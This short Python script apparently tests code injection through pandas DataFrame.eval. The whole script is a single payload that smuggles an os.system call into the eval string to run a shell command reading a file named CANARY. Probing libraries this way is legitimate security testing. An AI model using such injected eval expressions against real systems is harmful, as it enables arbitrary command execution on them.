import pandas as pd

df = pd.DataFrame({"a": [1, 2]})
print(df.eval("@__import__('os').system('cat CANARY')", engine="python"))
